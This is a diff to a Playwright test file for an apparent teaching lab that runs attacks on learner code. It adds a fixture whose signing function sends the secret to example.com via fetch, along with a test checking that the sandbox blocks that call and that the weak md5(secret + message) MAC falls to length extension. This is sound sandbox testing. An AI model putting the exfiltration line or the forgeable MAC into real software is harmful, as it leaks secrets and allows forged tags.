@@ -1,6 +1,8 @@
+import { resolve } from 'node:path';
+import { pathToFileURL } from 'node:url';
 import { deflateRawSync } from 'node:zlib';
 import { test, expect } from './fixtures';
-import type { Page } from '@playwright/test';
+import { test as plainTest, type Page } from '@playwright/test';
 
 /** A link to the lab with this code in it, as the lab's Share section makes one. */
 function linkTo(code: string, extra = ''): string {
@@ -11,6 +13,20 @@ function linkTo(code: string, extra = ''): string {
 async function runAttacks(page: Page) {
   await page.getByRole('button', { name: 'Run attacks' }).click();
 }
+
+/** md5(secret + message), plus an attempt to send the secret away that the sandbox refuses. */
+const LEAKY_MD5 = `export function sign(secret: string, message: string): string {
+  try {
+    fetch('https://example.com/collect?secret=' + secret);
+  } catch {
+    // Refused: carry on signing.
+  }
+  return md5(secret + message);
+}
+export function verify(secret: string, message: string, tag: string): boolean {
+  return sign(secret, message) === tag;
+}
+`;
 
 const ATTACKS = [
   'Length extension',
@@ -128,4 +144,31 @@ test('a damaged share link says so and shows the preset instead', async ({ page 
   await expect(page.getByText(/The code in this link is damaged/)).toBeVisible();
   await expect(page.getByText('return md5(secret + message);')).toBeVisible();
   await expect(page.getByText(/The report in this link is damaged/)).toBeVisible();
+});
+
+// The single-file build (npm run build:single) opened from file://: its workers are classic blob:
+// workers, so the sandbox loads the learner's code with importScripts from a blob: URL, under the
+// file's own policy. (The fixture's same-origin check does not fit a file:// page: this test
+// watches the network itself, as e2e/single-file.spec.ts does.)
+plainTest('the single-file build runs the battery too, with no network', async ({ page }) => {
+  const errors: string[] = [];
+  const network: string[] = [];
+  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
+  page.on('pageerror', (e) => errors.push(e.message));
+  page.on('request', (r) => /^https?:/.test(r.url()) && network.push(r.url()));
+  const file = pathToFileURL(resolve('dist-single/index.html')).href;
+  await page.goto(`${file}${linkTo(LEAKY_MD5).slice(2)}`);
+  await expect(page.getByRole('heading', { level: 1, name: 'Your code, attacked' })).toBeVisible();
+  await expect(page.getByRole('textbox', { name: 'Your module (TypeScript)' })).toHaveValue(
+    /collect\?secret=/,
+  );
+  await runAttacks(page);
+  await expect(page.getByRole('listitem', { name: 'Length extension: Fail' })).toContainText(
+    'Forged: verify accepted',
+  );
+  await expect(page.getByRole('list', { name: 'Blocked calls' })).toContainText(
+    "fetch('https://example.com/collect?secret=",
+  );
+  expect(network).toEqual([]);
+  expect(errors).toEqual([]);
 });
